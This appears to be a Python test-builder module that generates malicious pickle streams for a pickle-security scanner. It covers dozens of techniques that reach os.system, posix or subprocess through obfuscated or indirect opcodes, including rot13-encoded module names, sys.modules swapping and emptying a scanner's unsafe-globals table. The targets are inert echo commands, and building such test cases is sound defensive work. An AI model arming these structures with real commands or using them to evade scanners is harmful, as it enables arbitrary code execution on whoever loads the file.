"""Streams that reach a callable by an unusual road: techniques PKL-01 to PKL-18 and PKL-34 to PKL-38.

Each builder takes the target it calls, so the same structure can be built around a vetted name. Nothing here is ever
loaded: shell targets only print a tag, and most structures also work with `programs.ABSENT`.
"""

from __future__ import annotations

import codecs
from collections.abc import Callable

from tests.builders.pickles import opcodes as op
from tests.builders.pickles.described import Global, NewObj, Ops, Reduce
from tests.builders.pickles.programs import SHELL, Target, Via, call, call_target, program, resolve
from tests.builders.pickles.writer import data, dumps

NAMESPACE = Global("argparse", "Namespace")
STATEFUL = Global("inert_absent_pkg", "Stateful")
FACTORY = Global("posix", "getpid")
OS_SYSTEM = Target("os", "system", ("echo INERT",))


def reduce_call(target: Target = SHELL, protocol: int = 4) -> bytes:
    """PKL-01: GLOBAL, arguments, REDUCE."""
    return program(call_target(target, protocol=protocol), protocol=protocol)


def stack_global(target: Target = SHELL, push: Callable[[str], bytes] = op.SHORT_BINUNICODE) -> bytes:
    """PKL-02: STACK_GLOBAL whose operands any string opcode pushed (`push`)."""
    names = push(target.module) + push(target.name) + op.STACK_GLOBAL
    return program(names, data(target.arguments), op.REDUCE)


def binstring(text: str) -> bytes:
    """A name pushed by BINSTRING, for `stack_global`."""
    return op.BINSTRING(text.encode())


def short_binstring(text: str) -> bytes:
    """A name pushed by SHORT_BINSTRING, for `stack_global`."""
    return op.SHORT_BINSTRING(text.encode())


def remembered_names(target: Target = SHELL) -> bytes:
    """PKL-02: both operands of STACK_GLOBAL come out of the memo."""
    return program(call_target(target, via="memo"))


def computed_name(target: Target = SHELL) -> bytes:
    """PKL-03: the module of STACK_GLOBAL is the result of a call, so no constant in the stream spells it."""
    half = len(target.module) // 2
    joined = call("operator", "concat", target.module[:half], target.module[half:])
    return program(joined, data(target.name), op.STACK_GLOBAL, data(target.arguments), op.REDUCE)


def inst(target: Target = SHELL) -> bytes:
    """PKL-04: import and call in one opcode of protocol 0."""
    return program(call_target(target, protocol=0, via="inst"), protocol=0)


def popped_obj(target: Target = SHELL) -> bytes:
    """PKL-05: OBJ calls, POP throws the result away, honest data follows (GHSA-mxhj-88fx-4pcv)."""
    return program(call_target(target, via="obj"), op.POP, data({"epoch": 12}))


def newobj(target: Target = SHELL) -> bytes:
    """PKL-06: `cls.__new__(cls, *arguments)`."""
    return program(call_target(target, via="newobj"))


def newobj_ex(target: Target = SHELL, keywords: dict[str, object] | None = None) -> bytes:
    """PKL-06: `cls.__new__(cls, *arguments, **keywords)`."""
    pushed = op.GLOBAL(target.module, target.name) + data(target.arguments) + data(keywords or {})
    return program(pushed, op.NEWOBJ_EX)


def built_object(cls: Global = STATEFUL, state: object = "echo INERT") -> bytes:
    """PKL-07: NEWOBJ and BUILD, so `__setstate__` of the class runs with a state of the author's choice."""
    return dumps(NewObj(cls, state=state))


def double_build(target: Target = SHELL) -> bytes:
    """PKL-08: the first BUILD puts a callable under `__setstate__`, the second BUILD calls it."""
    first = op.MARK + data("__setstate__") + op.GLOBAL(target.module, target.name) + op.DICT
    return program(
        data(NewObj(NAMESPACE)), first, op.BUILD, data(target.arguments[0] if target.arguments else {}), op.BUILD
    )


def slot_state_on_class(target: Target = SHELL) -> bytes:
    """PKL-09: BUILD with `(None, {name: value})` sets an attribute on an imported class."""
    state = (None, {"__init__": Global(target.module, target.name)})
    return program(op.GLOBAL("argparse", "Namespace"), data(state), op.BUILD)


def slot_state_on_object(value: object = 3) -> bytes:
    """The honest twin of PKL-09: the same state form on an object made in the stream."""
    return program(data(NewObj(NAMESPACE)), data((None, {"width": value})), op.BUILD)


def registered_extension(target: Target = SHELL, code: int = 0x42) -> bytes:
    """PKL-11: the stream registers its own extension code, then EXT1 resolves it."""
    register = call("copyreg", "add_extension", target.module, target.name, code)
    return program(register, op.POP, op.EXT1(code), data(target.arguments), op.REDUCE)


def extension(code: bytes = op.EXT1(1)) -> bytes:
    """PKL-11: a bare EXT1, EXT2 or EXT4 whose meaning only the loading process knows."""
    return program(code, data(("INERT",)), op.REDUCE)


def persistent_id(identifier: object = ("inert", "PKL-12"), protocol: int = 4) -> bytes:
    """PKL-12: a persistent id outside torch; protocol 0 uses PERSID, later ones BINPERSID."""
    pushed = op.PERSID(str(identifier)) if protocol == 0 else data(identifier, protocol) + op.BINPERSID
    return program(pushed, protocol=protocol)


def mutated_global(module: str = "os", name: str = "environ", how: str = "SETITEM") -> bytes:
    """PKL-13, PKL-14: an imported object is filled with SETITEM(S), APPEND(S) or ADDITEMS; `sys.modules` for PKL-14."""
    return program(op.GLOBAL(module, name), _filling(how))


def filled_container(how: str = "SETITEM") -> bytes:
    """The honest twin of PKL-13: the same opcodes on a container made in the stream."""
    made = op.EMPTY_DICT if how.startswith("SETITEM") else op.EMPTY_SET if how == "ADDITEMS" else op.EMPTY_LIST
    return program(made, _filling(how))


def _filling(how: str) -> bytes:
    pair = data("INERT") + data("PKL-13")
    return {
        "SETITEM": pair + op.SETITEM,
        "SETITEMS": op.MARK + pair + op.SETITEMS,
        "APPEND": data("INERT") + op.APPEND,
        "APPENDS": op.MARK + pair + op.APPENDS,
        "ADDITEMS": op.MARK + pair + op.ADDITEMS,
    }[how]


def swapped_module(target: Target = SHELL, module: str = "inert_absent_pkg") -> bytes:
    """PKL-14: a callable is put into `sys.modules` under the name of a module that is imported later."""
    entry = data(module) + op.GLOBAL(target.module, target.name) + op.SETITEM
    return program(op.GLOBAL("sys", "modules"), entry)


def dotted(target: Target = OS_SYSTEM, via: Via = "dotted") -> bytes:
    """PKL-15: the name is walked through an honest module (`pathlib`, `os.system`); `global` spells it in GLOBAL."""
    if via == "dotted":
        return program(call_target(target, via="dotted"))
    return program(call("pathlib", f"{target.module}.{target.name}", *target.arguments, via=via))


def wrapper_alias(name: str = "system.__call__", target: Target = SHELL) -> bytes:
    """PKL-16: dunder components in a qualified name reach what the plain name would show."""
    return program(resolve(target.module, name, via="stack_global"), data(target.arguments), op.REDUCE)


def python2_name(module: str = "commands", name: str = "getoutput", protocol: int = 2) -> bytes:
    """PKL-18: a Python 2 name that protocols 0 to 2 rewrite (`commands` to `subprocess`)."""
    return program(call(module, name, "echo INERT", protocol=protocol), protocol=protocol)


def python2_container(name: str = "set", protocol: int = 2) -> bytes:
    """The honest twin of PKL-18: `__builtin__.set`, which is rewritten to `builtins.set`."""
    return program(call("__builtin__", name, [1, 2], protocol=protocol), protocol=protocol)


def transformed_name(codec: str = "rot13", target: Target = SHELL) -> bytes:
    """PKL-34: `_codecs.encode` with a transform codec spells the module name (`cbfvk` is `posix` in rot13)."""
    made = call("_codecs", "encode", codecs.encode(target.module, codec), codec)
    return program(made, data(target.name), op.STACK_GLOBAL, data(target.arguments), op.REDUCE)


def default_factory(factory: Global = FACTORY) -> bytes:
    """PKL-35: `defaultdict` whose factory runs on the first missing key."""
    return dumps(Reduce(Global("collections", "defaultdict"), (factory,)))


def synthesised_class(target: Target = SHELL) -> bytes:
    """PKL-35: `type` with three arguments makes a class whose `__hash__` is the target; a dictionary key calls it."""
    namespace = Ops(op.MARK + data("__hash__") + op.GLOBAL(target.module, target.name) + op.DICT)
    made = call("builtins", "type", "Inert", (Global("builtins", "object"),), namespace)
    instance = made + op.EMPTY_TUPLE + op.REDUCE
    return program(op.EMPTY_DICT, instance, data(1), op.SETITEM)


def import_only(module: str = "modeling_inert", name: str = "Net") -> bytes:
    """PKL-36, PKL-37: the reference alone; importing the module is the payload."""
    return program(op.GLOBAL(module, name), op.POP, data({"epoch": 12}))


def scanner_tampering(module: str = "picklescan.scanner", name: str = "_unsafe_globals") -> bytes:
    """PKL-38: a scanner's own table is reached and emptied."""
    return program(op.GLOBAL(module, name), data("posix"), op.NONE, op.SETITEM)
